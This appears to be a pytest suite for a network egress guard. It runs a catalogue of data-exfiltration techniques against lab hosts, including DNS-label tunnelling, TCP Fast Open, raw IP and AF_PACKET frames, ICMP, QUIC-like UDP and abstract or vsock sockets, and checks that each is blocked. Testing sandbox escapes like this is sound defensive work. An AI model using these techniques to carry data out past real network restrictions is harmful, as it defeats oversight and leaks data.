"""A program inside tries every way out that the kernel offers; a witness outside, who sees every packet, sees none of
it.

Each attack is first shown to work where no guard is.
"""

import itertools
import os
import socket
import subprocess
import threading

import pytest

import guard
import lab
from fixtures import need_root

POLICY = guard.policy(guard.endpoint("v4.example.com"), guard.endpoint("*.wild.example.com"))
_numbers = itertools.count()


def tcp(marker, address, port):
    stream = socket.create_connection((address, port), 5)
    stream.sendall(marker)
    stream.settimeout(1)
    return stream.recv(100)


def tcp_in_the_syn(marker, address, port):
    """TCP Fast Open puts data into the very first packet."""
    stream = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_STREAM)
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, b"\x01" + bytes(15))
    stream.sendto(marker, 0x20000000, (address, port))
    return stream.recv(100)


def tcp_mapped(marker, address, port):
    """An IPv4 destination through an IPv6 socket."""
    stream = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    stream.settimeout(5)
    stream.connect(("::ffff:" + address, port))
    stream.sendall(marker)
    stream.settimeout(1)
    return stream.recv(100)


def udp(marker, address, port):
    datagrams = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.settimeout(1)
    datagrams.sendto(marker, (address, port))
    return datagrams.recv(100)


def quic(marker, address, port):
    """Looks like the first packet of a QUIC connection."""
    datagrams = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.settimeout(1)
    datagrams.sendto(
        b"\xc3\x00\x00\x00\x01\x08" + bytes(8) + b"\x00\x00\x44\x9e" + marker + bytes(1100), (address, port)
    )
    return datagrams.recv(100)


def dns_query(marker, address, port, kind=16, tcp=False):
    """A question whose name carries the data."""
    label = marker.replace(b"_", b"-")
    query = (
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
        + bytes([len(label)])
        + label
        + b"\x07example\x03com\x00"
        + kind.to_bytes(2, "big")
        + b"\x00\x01"
    )
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    if tcp:
        stream = socket.create_connection((address, port), 5)
        stream.sendall(len(query).to_bytes(2, "big") + query)
        return stream.recv(1000)
    datagrams = socket.socket(family, socket.SOCK_DGRAM)
    datagrams.settimeout(1)
    datagrams.sendto(query, (address, port))
    return datagrams.recv(1000)


def dns_null(marker, address, port):
    return dns_query(marker, address, port, kind=10)


def dns_over_tcp(marker, address, port):
    return dns_query(marker, address, port, tcp=True)


def ping(marker, address, port):
    """The unprivileged ICMP socket, and the raw one where that is not allowed."""
    v6 = ":" in address
    family, protocol = (socket.AF_INET6, 58) if v6 else (socket.AF_INET, 1)
    try:
        stream = socket.socket(family, socket.SOCK_DGRAM, protocol)
    except PermissionError:
        stream = socket.socket(family, socket.SOCK_RAW, protocol)
    stream.sendto((b"\x80" if v6 else b"\x08") + b"\0\0\0\0\1\0\1" + marker, (address, 0))


def raw_ip(marker, address, port):
    """A whole UDP packet made by hand."""
    stream = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    payload = b"\x10\x00" + port.to_bytes(2, "big") + (8 + len(marker)).to_bytes(2, "big") + b"\0\0" + marker
    head = (
        b"\x45\0"
        + (20 + len(payload)).to_bytes(2, "big")
        + b"\0\1\0\0\x40\x11\0\0"
        + socket.inet_aton("192.0.2.66")
        + socket.inet_aton(address)
    )
    stream.sendto(head + payload, (address, 0))


def packet(marker, address, port):
    """Past every hook of the firewall, straight to the interface."""
    stream = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    stream.bind(("lo", 0))
    payload = b"\x10\x00" + port.to_bytes(2, "big") + (8 + len(marker)).to_bytes(2, "big") + b"\0\0" + marker
    head = b"\x45\0" + (20 + len(payload)).to_bytes(2, "big") + b"\0\1\0\0\x40\x11\0\0" + socket.inet_aton(address) * 2
    stream.send(bytes(12) + b"\x08\0" + head + payload)


def udplite(marker, address, port):
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    stream.sendto(marker, (address, port))


def multicast(marker, address, port):
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
    datagrams.sendto(marker, ("224.0.0.251", 5353))


def broadcast(marker, address, port):
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    datagrams.sendto(marker, ("127.255.255.255", port))


V4, V6 = lab.OUTSIDE_V4, lab.OUTSIDE_V6
ATTACKS = [
    (tcp, V4, 4444),
    (tcp, V6, 4444),
    (tcp, V4, 22),
    (tcp, V4, 443),
    (tcp, V4, 80),
    (tcp, V6, 8080),
    (tcp, V4, 853),
    (tcp_in_the_syn, V4, 4444),
    (tcp_in_the_syn, V6, 443),
    (tcp_mapped, V4, 4444),
    (udp, V4, 4444),
    (udp, V6, 4444),
    (udp, V4, 123),
    (udp, V4, 53),
    (udp, V6, 53),
    (quic, V4, 443),
    (quic, V6, 443),
    (dns_query, V4, 53),
    (dns_query, V6, 53),
    (dns_null, V4, 53),
    (dns_over_tcp, V4, 53),
    (dns_over_tcp, V6, 53),
    (dns_query, lab.RESOLVER, 53),
    (dns_null, lab.RESOLVER, 53),
    (dns_over_tcp, lab.RESOLVER, 53),
    (ping, V4, 0),
    (ping, V6, 0),
    (raw_ip, V4, 4444),
    (packet, V4, 4444),
    (udplite, V4, 4444),
    (multicast, V4, 0),
    (broadcast, V4, 4444),
]
every_attack = pytest.mark.parametrize(
    "attack, address, port",
    ATTACKS,
    ids=[f"{f.__name__}-{'v6' if ':' in a else 'resolver' if a == lab.RESOLVER else 'v4'}-{p}" for f, a, p in ATTACKS],
)


def new_marker():
    return f"marker{os.getpid()}x{next(_numbers)}x".encode()


def attempt(session, attack, *arguments):
    """Runs an attack that may fail in any way. Its source brings what it calls."""
    import inspect

    source = "\n".join(inspect.getsource(f) for f in {attack, dns_query})
    code = f"""
{source}
def try_it(arguments):
    try:
        return {attack.__name__}(*arguments)
    except OSError as error:
        return f"{{type(error).__name__}}: {{error}}"
"""
    return session.do_source(code, "try_it", arguments)


@pytest.fixture(scope="module")
def unguarded(world):
    bench = guard.Bench(world)
    with bench.session(guarded=False) as made:
        yield made
    bench.close()


@pytest.fixture(scope="module", params=["root", "ordinary"])
def guarded(request, world):
    if request.param == "ordinary":
        need_root()
    bench = guard.Bench(world, request.param)
    with bench.session(policy=POLICY) as made:
        yield made
    bench.close()


@every_attack
def test_without_a_guard_the_witness_sees_it(unguarded, world, watch, attack, address, port):
    marker = new_marker()
    result = attempt(unguarded, attack, marker, address, port)
    assert watch.saw(marker), result


@every_attack
def test_under_guard_the_witness_sees_nothing(guarded, world, watch, listeners, attack, address, port):
    marker = new_marker()
    result = attempt(guarded, attack, marker, address, port)
    assert watch.saw(marker) == [], result
    assert watch.leaks() == [], result
    assert listeners.heard == []
    assert marker.decode() not in repr(world.dns.questions)
    assert b"answer from outside" != result


def test_a_lookup_below_an_allowed_wildcard_carries_nothing_out(guarded, world, watch):
    """The name is allowed, so it gets an address; but nobody outside hears of it before a request to it is
    allowed."""
    marker = new_marker().decode()

    def look_up(name):
        return [found[4][0] for found in socket.getaddrinfo(name, 443)]

    assert guarded.do(look_up, f"{marker}.wild.example.com")
    assert watch.saw(marker.encode()) == [] and marker not in repr(world.dns.questions)


@pytest.mark.parametrize("kind", ["TXT", "MX", "NULL", "ANY", "SRV", "HTTPS", "SVCB", "CNAME", "PTR", "AXFR"])
def test_other_questions_about_allowed_names_are_answered_here(guarded, world, watch, kind):
    def dig(kind):
        import subprocess

        return subprocess.run(
            ["dig", "+tries=1", "+time=2", "v4.example.com", kind], capture_output=True, text=True
        ).stdout

    world.dns.forget()
    answer = guarded.do(dig, kind)
    assert world.dns.questions == [] and watch.leaks() == []
    if kind in ("HTTPS", "SVCB"):
        assert "ech" not in answer and "alpn" not in answer


def test_the_address_that_was_dialled_is_never_used_for_a_name(guarded, world, watch, listeners):
    """The function dials the attacker's address with an allowed name: the guard goes where the name leads by its own
    lookup."""
    reply = guarded.get("v4.example.com", "/echo", address=lab.OUTSIDE_V4)
    assert reply["status"] == 200
    assert watch.leaks() == [] and listeners.heard == []


def test_a_credential_bound_name_over_plain_http_goes_nowhere(guarded, world, watch, listeners):
    reply = guarded.get("v4.example.com", "/echo", tls=False, port=80, address=lab.OUTSIDE_V4)
    assert reply["status"] == 403 and not world.requests() and listeners.heard == []


def test_every_port_of_a_captured_address_is_the_guards(guarded, world, watch, listeners):
    def sweep(address):
        answers = set()
        for port in (1, 21, 22, 25, 53, 110, 445, 1080, 3128, 3306, 6379, 8000, 27017, 65535):
            try:
                stream = socket.create_connection((address, port), 5)
                stream.sendall(b"\x05\x01\x00")
                stream.settimeout(0.2)
                answers.add(stream.recv(100))
            except OSError as error:
                answers.add(type(error).__name__)
        return sorted(map(repr, answers))

    guarded.do(sweep, lab.OUTSIDE_V4)
    assert watch.leaks() == [] and listeners.heard == []


def test_an_abstract_socket_outside_cannot_be_reached(guarded, unguarded, world):
    name = f"\0sallyport-lab-{new_marker().decode()}"
    server = socket.socket(socket.AF_UNIX)
    server.bind(name)
    server.listen()
    heard = []

    def listen():
        while True:
            connection, _ = server.accept()
            heard.append(connection.recv(100))
            connection.close()

    threading.Thread(target=listen, daemon=True).start()

    def shout(name):
        stream = socket.socket(socket.AF_UNIX)
        try:
            stream.connect(name)
            stream.sendall(b"out")
            stream.recv(1)
            return "reached"
        except OSError as error:
            return type(error).__name__

    assert unguarded.do(shout, name) == "reached" and heard == [b"out"]
    assert guarded.do(shout, name) != "reached" and heard == [b"out"]


def test_a_vsock_cannot_be_made(guarded, world):
    """Sockets to the hypervisor are no part of any network namespace: only refusing them helps. Nobody is called
    here."""

    def make():
        made = []
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                socket.socket(40, kind).close()
                made.append(kind)
            except OSError:
                pass
        return made

    assert guarded.do(make) == []


def test_odd_address_families_are_refused_or_lead_nowhere(guarded, world, watch):
    def families():
        made = []
        for family in range(3, 47):
            if family in (socket.AF_INET6, 16):  # netlink is namespaced
                continue
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
                try:
                    socket.socket(family, kind).close()
                    made.append(family)
                except OSError:
                    pass
        return sorted(set(made))

    # 38 is AF_ALG, the kernel's cryptography, which goes nowhere.
    assert set(guarded.do(families)) <= {38}


def test_the_namespace_has_no_other_interface(guarded, world):
    def interfaces():
        return [name for _, name in socket.if_nameindex()]

    # A kernel may put unused tunnel devices into every new namespace; those that are up count.
    def up():
        import fcntl

        found = []
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
            for _, name in socket.if_nameindex():
                flags = fcntl.ioctl(stream, 0x8913, name.encode().ljust(40, b"\0"))
                if int.from_bytes(flags[16:18], "little") & 1:
                    found.append(name)
        return found

    assert "lo" in guarded.do(interfaces)
    assert guarded.do(up) == ["lo"]
